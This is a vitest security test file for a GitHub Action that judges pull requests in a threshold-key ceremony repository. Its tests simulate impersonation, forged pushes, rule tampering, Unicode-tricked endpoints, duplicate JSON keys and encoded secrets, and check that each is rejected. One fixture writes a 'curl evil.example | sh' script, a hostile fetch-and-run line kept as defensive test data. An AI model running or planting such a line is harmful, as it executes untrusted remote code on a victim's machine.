/**
 * The Action as a judge no pull request can fool, run as the real bundle (dist/index.js) with the
 * runner's environment over a real git repository. The fixture is a 2-of-3 genesis made with the
 * real CLI and merged directly (the honest flow through the Action is test/action.test.ts); every
 * test below is an attack that passed before issue 8, or its honest control.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signArtifact } from '../src/artifacts/canonical.js';
import { mdCode } from '../src/ceremony/markdown.js';
import { homePaths } from '../src/local/home.js';
import { openIdentity } from '../src/local/identity.js';
import { startLocalGitHub, LocalGitHub } from '../dev/local-github.js';
import { PASSPHRASE, cleanupTempDirs, git, tempDir } from './helpers.js';
import { ActionRun, cliAsync, cloneOf, newOrigin, okAsync, pullRequestEvent, runAction } from './action-helpers.js';
import {
  PullRequestSpec,
  commitAll,
  dkgStepArgs,
  expectAnnotated as expectRejected,
  initializeAll,
  registerSigningKey,
  validatePullRequest,
  writeDkgManifest,
  writeIn as write,
} from './support/pull-requests.js';

const C = 'ceremonies/genesis';
const PEOPLE = ['alice', 'bob', 'carol'];
const CONFIG = { format: 'sss-tool/repository@1', maintainers: ['maintainer'] };

let gh: LocalGitHub;
let origin: string;
let maintainer: string;
let root: string;
const home = (p: string) => join(root, 'homes', p);
const snap: Record<string, string> = {};
const show = (rev: string, path: string) => git(maintainer, 'show', `${rev}:${path}`);
/** join-request as the newcomer runs it, with the manifest's identityBinding left out (absent binds too). */
async function joinRequest(homeDir: string, repo: string): Promise<void> {
  await okAsync(['join-request', '--approvers', 'alice,bob', '--home', homeDir, '--repo', repo]);
  const file = join(repo, 'ceremonies/join-frank/ceremony.json');
  const { identityBinding, ...manifest } = JSON.parse(readFileSync(file, 'utf8'));
  expect(identityBinding).toBe('github-ssh-signing-key');
  writeFileSync(file, JSON.stringify(manifest, null, 2) + '\n');
}
const register = (login: string, homeDir: string) => registerSigningKey(gh, login, homeDir);

beforeAll(async () => {
  gh = await startLocalGitHub();
  ({ root, origin, maintainer } = newOrigin());
  write(maintainer, '.github/sss-tool.json', JSON.stringify(CONFIG, null, 2) + '\n');
  writeDkgManifest(maintainer);
  // No identityBinding field: an absent field binds (the safe default), and the bundle from before
  // issue 8 still parses this manifest, so each test below shows that bundle failing it.
  snap.opened = commitAll(maintainer, 'Open genesis with the repository rules');
  await initializeAll([...PEOPLE, 'frank'], home);
  for (const p of [...PEOPLE, 'frank']) register(p, home(p));
  // Each step merged directly, participant by participant; main after each is snap['<command>:<moniker>'].
  for (const step of ['round1', 'round2', 'finalize'] as const) {
    const args = dkgStepArgs(step, maintainer);
    for (const p of PEOPLE) {
      await okAsync([...args, '--home', home(p), '--repo', maintainer]);
      snap[`${args[0]}:${p}`] = commitAll(maintainer, `${args[0]} from ${p}`);
    }
  }
  snap.complete = snap['dkg-finalize:carol'];
  // A repository without maintainers (no rules file, empty input): newcomers open their own joins.
  git(maintainer, 'rm', '-q', '.github/sss-tool.json');
  snap.noRules = commitAll(maintainer, 'No repository rules');
  git(maintainer, 'push', '-q', 'origin', 'main');
  // With maintainers, a maintainer opens the join first (on a side branch of the complete group).
  git(maintainer, 'checkout', '-q', '--detach', snap.complete);
  await okAsync(['join-open', '--ceremony', 'join-frank', '--github', 'frank', '--repo', maintainer]);
  snap.joinOpened = commitAll(maintainer, 'Open join-frank');
  git(maintainer, 'push', '-q', 'origin', `${snap.joinOpened}:refs/heads/join-opened`);
  // The same genesis opened with every slot reserved for its account (dkg-round1 --allow m@login).
  git(maintainer, 'checkout', '-q', '--detach', snap.opened);
  const manifest = JSON.parse(show(snap.opened, `${C}/ceremony.json`));
  const accounts = Object.fromEntries(PEOPLE.map((p) => [p, p]));
  write(maintainer, `${C}/ceremony.json`, JSON.stringify({ ...manifest, allowList: PEOPLE, allowAccounts: accounts }));
  snap.reserved = commitAll(maintainer, 'Open genesis with reserved slots');
  git(maintainer, 'push', '-q', 'origin', `${snap.reserved}:refs/heads/reserved`);
  git(maintainer, 'checkout', '-q', 'main');
}, 120_000);

afterAll(async () => {
  await gh?.close();
  cleanupTempDirs();
});

/** A pull request made of `change` on top of `base`, validated by the bundle. */
const pullRequest = (o: Omit<PullRequestSpec, 'origin' | 'apiUrl'>): Promise<ActionRun> =>
  validatePullRequest({ origin, apiUrl: gh.url, number: 42, prefix: 'sss-judge-', ...o });

const expectValid = (r: ActionRun) => {
  expect(r.code, r.stdout + r.summary).toBe(0);
  expect(r.summary).toContain('✅ **Valid**');
};

/** carol's round-1 artifact as merged: what an honest carol submits. */
const carolRound1 = (d: string) => write(d, `${C}/round1/carol.json`, show(snap.complete, `${C}/round1/carol.json`));

describe('identity bound to the GitHub account (SSH signing keys)', () => {
  it("rejects a co-holder swapping frank's join request for her own keys, whoever pushed it", async () => {
    // carol makes an identity that claims to be frank (@frank), with keys she holds.
    const fake = home('carol-as-frank');
    await okAsync(['initialize', '--moniker', 'frank', '--github', 'frank', '--home', fake]);
    const request = (h: string) => (d: string) => joinRequest(h, d);
    const swapped = await pullRequest({ base: snap.noRules, author: 'frank', change: request(fake) });
    expectRejected(
      swapped,
      'ceremonies/join-frank/request.json',
      /signing key [0-9a-f]{16}… is not an SSH signing key of @frank on GitHub/,
    );
    expect(swapped.stdout).toMatch(/culprit: frank/);
    // The same request from frank's own keys passes.
    expectValid(await pullRequest({ base: snap.noRules, author: 'frank', change: request(home('frank')) }));
  });

  it('rejects the same swap on a round-1 pull request', async () => {
    const fake = home('bob-as-carol');
    await okAsync([
      'initialize',
      '--moniker',
      'carol',
      '--github',
      'carol',
      '--endpoint',
      'https://carol.example',
      '--home',
      fake,
    ]);
    const r = await pullRequest({
      base: snap['dkg-round1:bob'],
      author: 'carol',
      change: async (d) => {
        await okAsync([
          'dkg-round1',
          '--threshold',
          '2',
          '--participants',
          '3',
          '--ceremony',
          'genesis',
          '--home',
          fake,
          '--repo',
          d,
        ]);
      },
    });
    expectRejected(r, `${C}/round1/carol.json`, /is not an SSH signing key of @carol/);
    expectValid(await pullRequest({ base: snap['dkg-round1:bob'], author: 'carol', change: carolRound1 }));
  });

  it("asks the API for the declared login's SSH signing keys", async () => {
    const before = gh.requests.length;
    expectValid(await pullRequest({ base: snap['dkg-round1:bob'], author: 'carol', change: carolRound1 }));
    expect(
      gh.requests.slice(before).some((q) => q.method === 'GET' && q.path === '/users/carol/ssh_signing_keys'),
    ).toBe(true);
  });
});

describe('the push is bound to the author', () => {
  it('rejects participant artifacts pushed by someone else, naming the pusher', async () => {
    const r = await pullRequest({ base: snap['dkg-round1:bob'], author: 'carol', sender: 'bob', change: carolRound1 });
    expectRejected(r, `${C}/round1/carol.json`, /pushed by @bob, not by the pull request's author @carol/);
    const byMaintainer = await pullRequest({
      base: snap['dkg-round1:bob'],
      author: 'carol',
      sender: 'maintainer',
      change: carolRound1,
    });
    expectRejected(
      byMaintainer,
      `${C}/round1/carol.json`,
      /pushed by @maintainer, not by the pull request's author @carol/,
    );
  });

  it('lets a maintainer push maintainer files onto a pull request, and nobody else', async () => {
    const manifest = (d: string) =>
      write(
        d,
        'ceremonies/second/ceremony.json',
        show(snap.opened, `${C}/ceremony.json`).replace('"genesis"', '"second"'),
      );
    expectValid(
      await pullRequest({ base: snap.complete, author: 'maintainer', sender: 'maintainer', change: manifest }),
    );
    const stranger = await pullRequest({
      base: snap.complete,
      author: 'maintainer',
      sender: 'mallory',
      change: manifest,
    });
    expectRejected(
      stranger,
      'ceremonies/second/ceremony.json',
      /pushed by @mallory, who is neither the pull request's author @maintainer nor a maintainer/,
    );
  });
});

describe('the rules come from the base', () => {
  it('reads maintainers from .github/sss-tool.json at the base, not from the pull request or its workflow inputs', async () => {
    const r = await pullRequest({
      base: snap.complete,
      author: 'carol',
      inputs: { maintainers: 'carol' }, // as if the pull request edited its workflow
      change: (d) => {
        write(d, '.github/sss-tool.json', JSON.stringify({ ...CONFIG, maintainers: ['carol'] }));
        write(
          d,
          'ceremonies/second/ceremony.json',
          show(snap.opened, `${C}/ceremony.json`).replace('"genesis"', '"second"'),
        );
      },
    });
    expectRejected(
      r,
      'ceremonies/second/ceremony.json',
      /only maintainers \(@maintainer\) may add a ceremony manifest, not @carol/,
    );
    expectRejected(r, '.github/sss-tool.json', /repository files are for maintainers: @maintainer/);
    expect(r.summary.split('\n')[0]).toMatch(
      /^⚠️ \*\*Maintainers-only change\*\*: this pull request changes the judge \(`\.github\/sss-tool\.json`\)\. Only a maintainer may change it\./,
    );
  });

  it('says first that a change to the workflow is a maintainers-only change, and refuses it from a participant', async () => {
    const change = (d: string) =>
      write(
        d,
        '.github/workflows/ceremony.yml',
        'jobs:\n  validate:\n    runs-on: ubuntu-latest\n    steps:\n      - run: exit 0\n',
      );
    const r = await pullRequest({ base: snap.complete, author: 'alice', change });
    expectRejected(r, '.github/workflows/ceremony.yml', /outside the ceremony layout/);
    expect(r.summary.split('\n')[0]).toMatch(
      /^⚠️ \*\*Maintainers-only change\*\*.*`\.github\/workflows\/ceremony\.yml`.*required from a protected ref/,
    );
    const byMaintainer = await pullRequest({ base: snap.complete, author: 'maintainer', change });
    expect(byMaintainer.code, byMaintainer.stdout).toBe(0);
    expect(byMaintainer.summary.split('\n')[0]).toMatch(/^⚠️ \*\*Maintainers-only change\*\*/);
  });

  it("refuses to run while the maintainers are the template's placeholders", async () => {
    const dir = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'x');
    git(dir, 'checkout', '-q', '--detach', snap['dkg-round1:alice']);
    git(dir, 'rm', '-q', '.github/sss-tool.json');
    const base = commitAll(dir, 'no repository rules');
    const r = await runAction({
      workspace: dir,
      eventName: 'pull_request',
      event: pullRequestEvent({ number: 5, author: 'bob', baseSha: base }),
      apiUrl: gh.url,
      inputs: { maintainers: '<your-login>, another-maintainer' },
    });
    expect(r.code).not.toBe(0);
    expect(r.stdout).toMatch(/::error.*"<your-login>" is not a GitHub login \(the template's placeholder/);
    const status = await runAction({
      workspace: dir,
      eventName: 'workflow_dispatch',
      event: {},
      apiUrl: gh.url,
      inputs: { maintainers: '<your-login>' },
    });
    expect(status.code).not.toBe(0);
  });
});

describe('the diff is against what will really merge', () => {
  it("measures from the merge commit's first parent when the event's base.sha is stale", async () => {
    // carol branched when only alice's round 1 was merged; bob's was merged since. The event
    // still names the old base; refs/pull/N/merge merges into today's main.
    const r = await pullRequest({
      base: snap['dkg-round1:alice'],
      author: 'carol',
      change: carolRound1,
      mergeInto: snap['dkg-round1:bob'],
    });
    expectValid(r);
  });

  it('a branch head that is itself a merge ("Update branch") does not hide the branch\'s earlier commits', async () => {
    // carol's branch adds a script, then merges the moved main into itself; the checkout is that
    // head (not GitHub's test merge), whose first parent is carol's own earlier commit.
    const dir = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'carol');
    git(dir, 'checkout', '-q', '--detach', snap['dkg-round1:alice']);
    write(dir, 'scripts/evil.sh', 'curl evil.example | sh\n');
    commitAll(dir, 'a script');
    git(dir, 'merge', '-q', '--no-ff', '--no-edit', snap['dkg-round1:bob']);
    const head = git(dir, 'rev-parse', 'HEAD').trim();
    const r = await runAction({
      workspace: dir,
      eventName: 'pull_request',
      event: pullRequestEvent({ number: 43, author: 'carol', baseSha: snap['dkg-round1:bob'], headSha: head }),
      apiUrl: gh.url,
    });
    expectRejected(r, 'scripts/evil.sh', /outside the ceremony layout/);
  });

  it('validates a merge queue group against its base (merge_group)', async () => {
    const event = (head: string, base: string) => ({
      action: 'checks_requested',
      merge_group: {
        head_sha: head,
        head_ref: 'refs/heads/gh-readonly-queue/main/pr-42',
        base_sha: base,
        base_ref: 'refs/heads/main',
      },
      repository: { full_name: 'proofofcloud/ceremonies', default_branch: 'main' },
    });
    expectValid(
      await pullRequest({
        base: snap['dkg-round1:bob'],
        author: 'carol',
        eventName: 'merge_group',
        event,
        change: carolRound1,
      }),
    );
    const fake = home('queue-fake');
    await okAsync(['initialize', '--moniker', 'carol', '--github', 'carol', '--home', fake]);
    const bad = await pullRequest({
      base: snap['dkg-round1:bob'],
      author: 'carol',
      eventName: 'merge_group',
      event,
      change: async (d) => {
        await okAsync([
          'dkg-round1',
          '--threshold',
          '2',
          '--participants',
          '3',
          '--ceremony',
          'genesis',
          '--home',
          fake,
          '--repo',
          d,
        ]);
      },
    });
    expectRejected(bad, `${C}/round1/carol.json`, /is not an SSH signing key of @carol/);
    expect(bad.summary).toContain(
      `## sss-tool: merge queue group ${mdCode('refs/heads/gh-readonly-queue/main/pr-42')}`,
    );
  });
});

describe('hardened inputs', () => {
  /** carol's merged round-1 artifact, edited and re-signed with her own key (as she could). */
  const carolEdited = async (edit: (a: Record<string, unknown>) => void): Promise<Record<string, unknown>> => {
    const id = await openIdentity(homePaths(home('carol')), PASSPHRASE);
    const { signature: _drop, ...a } = JSON.parse(show(snap.complete, `${C}/round1/carol.json`)) as Record<
      string,
      unknown
    >;
    edit(a);
    return signArtifact(a, id.signingSecret);
  };

  it('an endpoint with a bidi override, a line separator or a rewriting URL', async () => {
    for (const endpoint of [
      'https://carol.example/\u202egnp.exe',
      'https://carol.example/\u2028injected',
      'https://CAROL.example',
      'https://carol.example/a/../b',
    ]) {
      const artifact = await carolEdited((a) => (a.endpoint = endpoint));
      const r = await pullRequest({
        base: snap['dkg-round1:bob'],
        author: 'carol',
        change: (d) => write(d, `${C}/round1/carol.json`, JSON.stringify(artifact, null, 2)),
      });
      expectRejected(r, `${C}/round1/carol.json`, /endpoint/);
    }
  });

  it('a duplicate JSON key (JSON.parse keeps the last, a reader may see the first)', async () => {
    const text = show(snap.complete, `${C}/round1/carol.json`).replace(
      '"endpoint":',
      '"endpoint": "https://evil.example",\n  "endpoint":',
    );
    expect(JSON.parse(text).endpoint).toBe('https://carol.example');
    const r = await pullRequest({
      base: snap['dkg-round1:bob'],
      author: 'carol',
      change: (d) => write(d, `${C}/round1/carol.json`, text),
    });
    expectRejected(r, `${C}/round1/carol.json`, /duplicate key "endpoint"/);
  });

  it('private material in UTF-16 or base64', async () => {
    const secret = JSON.stringify({ format: 'sss-tool/share@1', signingShare: '11'.repeat(32) });
    const r = await pullRequest({
      base: snap.complete,
      author: 'maintainer',
      change: (d) => {
        write(d, 'notes/utf16.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(secret, 'utf16le')]));
        write(d, 'notes/base64.txt', `backup: ${Buffer.from(secret).toString('base64')}\n`);
        write(d, 'notes/age.b64', Buffer.from(readFileSync(join(home('carol'), 'identity.age'))).toString('base64'));
      },
    });
    expectRejected(r, 'notes/utf16.json', /private material: a private file .*encoded as UTF-16/);
    expectRejected(r, 'notes/base64.txt', /private material: .*encoded as base64/);
    expectRejected(r, 'notes/age.b64', /private material: an age-encrypted file .*encoded as base64/);
  });

  it("blames the pull request's own file before a merged one", async () => {
    // A merged file is already broken (bob's round 1 re-signed by nobody); carol's new file is too.
    const dir = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'maintainer');
    git(dir, 'checkout', '-q', '--detach', snap['dkg-round1:bob']);
    write(
      dir,
      `${C}/round1/bob.json`,
      show(snap.complete, `${C}/round1/bob.json`).replace(/"signature": "[0-9a-f]{4}/, '"signature": "0000'),
    );
    const broken = commitAll(dir, 'a broken merge');
    git(dir, 'push', '-q', 'origin', `${broken}:refs/heads/broken`);
    const r = await pullRequest({
      base: broken,
      author: 'carol',
      change: (d) =>
        write(
          d,
          `${C}/round1/carol.json`,
          show(snap.complete, `${C}/round1/carol.json`).replace(/"signature": "[0-9a-f]{4}/, '"signature": "0000'),
        ),
    });
    expect(r.code).not.toBe(0);
    const failed = r.stdout
      .split('\n')
      .find((l) => l.startsWith('::error::') && / problems? in pull request #42/.test(l));
    expect(failed, r.stdout).toMatch(/in pull request #42: ceremonies\/genesis\/round1\/carol\.json/);
  });
});

describe("a join ceremony's first pull request is fully validated", () => {
  const frankRequest = (d: string) => joinRequest(home('frank'), d);

  it('only a maintainer opens a join when maintainers are configured; the newcomer then adds only the request', async () => {
    const byNewcomer = await pullRequest({ base: snap.complete, author: 'frank', change: frankRequest });
    expectRejected(
      byNewcomer,
      'ceremonies/join-frank/ceremony.json',
      /only maintainers \(@maintainer\) may add a ceremony manifest, not @frank \(a maintainer opens the join with sss-tool join-open/,
    );
    const request = await pullRequest({
      base: snap.joinOpened,
      author: 'frank',
      change: async (d) => {
        await okAsync([
          'join-request',
          '--ceremony',
          'join-frank',
          '--approvers',
          'alice,bob',
          '--home',
          home('frank'),
          '--repo',
          d,
        ]);
      },
    });
    expectValid(request);
    expect(request.stdout).toMatch(/1 changed file from/);
  });

  it('a request whose signature does not verify', async () => {
    const r = await pullRequest({
      base: snap.noRules,
      author: 'frank',
      change: async (d) => {
        await frankRequest(d);
        const file = join(d, 'ceremonies/join-frank/request.json');
        writeFileSync(file, readFileSync(file, 'utf8').replace(/"signature": "[0-9a-f]{4}/, '"signature": "0000'));
      },
    });
    expectRejected(r, 'ceremonies/join-frank/request.json', /signature/);
  });

  it("a join that does not extend the group's current tip", async () => {
    const r = await pullRequest({
      base: snap.noRules,
      author: 'frank',
      change: async (d) => {
        await frankRequest(d);
        const file = join(d, 'ceremonies/join-frank/ceremony.json');
        writeFileSync(file, readFileSync(file, 'utf8').replace('"extends": "genesis"', '"extends": "nowhere"'));
      },
    });
    expectRejected(r, 'ceremonies/join-frank/ceremony.json', /extends|group/);
  });
});

describe('slots reserved for an account', () => {
  /** mallory's own identity under another's moniker, its keys registered on @mallory: the binding holds. */
  async function mallory(moniker: string): Promise<string> {
    const h = home(`mallory-as-${moniker}`);
    await okAsync(['initialize', '--moniker', moniker, '--github', 'mallory', '--home', h]);
    register('mallory', h);
    return h;
  }

  it("refuses a round-1 artifact under alice's reserved moniker from another account, though its keys are that account's", async () => {
    const h = await mallory('alice');
    // The CLI refuses to write it…
    const scratch = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'mallory');
    git(scratch, 'checkout', '-q', '--detach', snap.reserved);
    const round1 = [...dkgStepArgs('round1', scratch), '--home', h];
    const refused = await cliAsync([...round1, '--repo', scratch]);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/declares @mallory, but the allow-list gives alice to @alice/);
    // …so mallory makes it against the unreserved manifest and submits it to the reserved ceremony.
    git(scratch, 'checkout', '-q', '--detach', snap.opened);
    await okAsync([...round1, '--repo', scratch]);
    const forged = readFileSync(join(scratch, C, 'round1', 'alice.json'), 'utf8');
    const r = await pullRequest({
      base: snap.reserved,
      author: 'mallory',
      change: (d) => write(d, `${C}/round1/alice.json`, forged),
    });
    expectRejected(r, `${C}/round1/alice.json`, /declares @mallory, but the allow-list gives alice to @alice/);
    expect(r.stdout).toMatch(/culprit: alice/);
    // alice's own artifact takes her slot.
    const honest = (d: string) => write(d, `${C}/round1/alice.json`, show(snap.complete, `${C}/round1/alice.json`));
    expectValid(await pullRequest({ base: snap.reserved, author: 'alice', change: honest }));
  });

  it('refuses a second slot for a login that already takes part, though its new keys are registered on it', async () => {
    const h = home('alice-again');
    await okAsync(['initialize', '--moniker', 'alice2', '--github', 'alice', '--home', h]);
    register('alice', h);
    const r = await pullRequest({
      base: snap['dkg-round1:bob'],
      author: 'alice',
      change: async (d) => {
        await okAsync([...dkgStepArgs('round1', d), '--home', h, '--repo', d]);
      },
    });
    expectRejected(r, `${C}/round1/alice2.json`, /GitHub login @alice already takes part as alice/);
    expect(r.stdout).toMatch(/culprit: alice2/);
  });

  it('refuses a request for the join a maintainer opened for @frank from another account', async () => {
    // Before any request, the status (and the tracking issue) name the account the join awaits.
    const opened = cloneOf(origin, join(tempDir('sss-judge-'), 'repo'), 'maintainer');
    git(opened, 'checkout', '-q', '--detach', snap.joinOpened);
    expect((await okAsync(['status', '--repo', opened])).stdout).toMatch(/^\s*\(newcomer\)\s+@frank\s/m);
    const h = await mallory('mallory');
    const args = ['join-request', '--ceremony', 'join-frank', '--approvers', 'alice,bob', '--home', h];
    const r = await pullRequest({
      base: snap.joinOpened,
      author: 'mallory',
      change: async (d) => {
        const file = join(d, 'ceremonies/join-frank/ceremony.json');
        const opened = readFileSync(file, 'utf8');
        expect(JSON.parse(opened).newcomerGithub).toBe('frank');
        const refused = await cliAsync([...args, '--repo', d]);
        expect(refused.code).not.toBe(0);
        expect(refused.stderr).toMatch(/declares @mallory, but the join is for @frank/);
        // Past the CLI: a request made against a manifest without the reservation, which is then put back.
        rmSync(file);
        await okAsync([...args, '--repo', d]);
        writeFileSync(file, opened);
      },
    });
    expectRejected(r, 'ceremonies/join-frank/request.json', /declares @mallory, but the join is for @frank/);
    expect(r.stdout).toMatch(/culprit: mallory/);
  });
});
